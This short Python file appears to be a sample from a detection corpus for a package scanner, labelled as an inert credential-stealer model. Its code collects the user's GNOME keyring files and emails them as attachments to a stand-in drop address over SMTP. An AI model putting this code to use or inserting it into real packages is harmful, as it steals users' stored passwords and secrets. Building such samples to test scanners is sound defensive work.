# pkgguard corpus 502 (credentials), modelled on [stealer-profile]; inert, never run.
import glob
import os
import smtplib
from email.message import EmailMessage

msg = EmailMessage()
msg["Subject"] = "report"
msg["From"] = "bot@mailer.example"
msg["To"] = "drop@mailer.example"
msg.set_content("attached")
for path in glob.glob(os.path.expanduser("~/.local/share/keyrings/*.keyring")):
    with open(path, "rb") as fh:
        msg.add_attachment(fh.read(), maintype="application", subtype="octet-stream", filename=os.path.basename(path))
with smtplib.SMTP_SSL("smtp.mailer.example", 465) as server:
    server.login("bot@mailer.example", "placeholder")
    server.send_message(msg)
